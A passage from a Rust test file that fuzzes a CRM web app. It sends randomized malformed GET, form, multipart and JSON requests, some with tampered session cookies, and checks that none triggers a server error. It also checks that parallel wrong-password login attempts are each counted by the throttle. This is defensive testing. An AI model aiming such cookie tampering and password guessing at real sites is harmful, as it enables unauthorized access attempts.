        "9999-12-31",
        "lead",
        "won",
        "on",
        "true",
        "a@b",
        "\r\n",
        "&",
        "=",
        ";",
        "[]",
        "{}",
        "null",
    ];
    const FIELDS: &[&str] = &[
        "name",
        "slug",
        "city",
        "industry",
        "website",
        "first_name",
        "last_name",
        "company_id",
        "email",
        "title",
        "phone",
        "stage",
        "amount",
        "expected_close",
        "body",
        "contact_id",
        "deal_id",
        "probability",
        "username",
        "password",
        "next",
        "page",
        "q",
        "sort",
        "theme",
        "density",
        "csrfmiddlewaretoken",
    ];
    let routes: Vec<String> = site.resolver().routes().map(|r| r.pattern().to_owned()).collect();
    let mut client = logged_in(&site).await;
    let mut statuses = std::collections::BTreeMap::new();
    for run in 0..runs {
        let enc = |s: &str| crate::doors::encode(s);
        let pattern = &routes[(rng.next() % routes.len() as u64) as usize];
        // Each `<conv:name>` becomes a random piece, percent-encoded as a browser would send it.
        let mut path = String::from("/");
        let mut rest = pattern.trim_start_matches('/');
        while let Some(open) = rest.find('<') {
            path.push_str(&rest[..open]);
            let close = rest[open..].find('>').map_or(rest.len(), |c| open + c + 1);
            path.push_str(&enc(rng.pick(PIECES)));
            rest = &rest[close..];
        }
        path.push_str(rest);
        if rng.next().is_multiple_of(2) {
            path.push_str(&format!("?{}={}&{}", enc(rng.pick(FIELDS)), enc(rng.pick(PIECES)), enc(rng.pick(PIECES))));
        }
        let fields: Vec<(&str, &str)> = (0..rng.next() % 6).map(|_| (rng.pick(FIELDS), rng.pick(PIECES))).collect();
        if rng.next().is_multiple_of(10) {
            let tampered = enc(rng.pick(PIECES));
            client.set_cookie("sessionid", &tampered);
        }
        let resp = match rng.next() % 5 {
            0 | 1 => client.get(&path).await,
            2 => client.post_form(&path, &fields).await,
            3 => {
                let boundary = rng.pick(&["b", "", "\"q\"", "--", "x y"]);
                let mut body = String::new();
                for (name, value) in &fields {
                    body.push_str(&format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\""));
                    if rng.next().is_multiple_of(3) {
                        body.push_str("; filename=\"f.csv\"\r\nContent-Type: text/csv");
                    }
                    body.push_str(&format!("\r\n\r\n{value}\r\n"));
                }
                if rng.next().is_multiple_of(2) {
                    body.push_str(&format!("--{boundary}--\r\n"));
                }
                let ct = format!("multipart/form-data; boundary={boundary}");
                client.send(http::Method::POST, &path, Some(&ct), body.into_bytes().into()).await
            }
            _ => {
                let body = format!("{{\"{}\": {}", rng.pick(FIELDS), rng.pick(PIECES));
                client.send(http::Method::POST, &path, Some("application/json"), body.into_bytes().into()).await
            }
        };
        *statuses.entry(resp.status().as_u16()).or_insert(0) += 1;
        assert!(
            !resp.status().is_server_error(),
            "run {run} (seed {seed}): {path} answered {}: {}",
            resp.status(),
            resp.text().chars().take(400).collect::<String>()
        );
        if client.cookie("sessionid").is_none_or(|s| s.len() < 20) {
            client = logged_in(&site).await;
        }
    }
    println!("{runs} hostile requests (seed {seed}), by status: {statuses:?}");
    assert!(statuses.keys().any(|s| *s < 300) && statuses.keys().any(|s| *s >= 400), "both sides were reached");
}

#[tokio::test]
async fn guesses_sent_in_parallel_each_count() {
    use djambda::auth::models::login_failure;
    let site = crm_site("throttle-parallel", &[("LOGIN_FAILURE_LIMIT", "100")]);
    let from: std::net::SocketAddr = "203.0.113.20:1234".parse().unwrap();
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..12 {
        let mut c = Client::new(site.clone()).with_client_addr(from);
        tasks.spawn(async move {
            c.post_form("/accounts/login/", &[("username", "demo"), ("password", "wrong")]).await.status()
        });
    }
    while let Some(status) = tasks.join_next().await {
        assert_eq!(status.unwrap(), 200);
    }
    let db = site.database().connection().await.unwrap();
    let row = login_failure::Entity::find().one(&db).await.unwrap().expect("a count");
    assert_eq!(row.failures, 12, "each of the 12 parallel guesses counted");
}
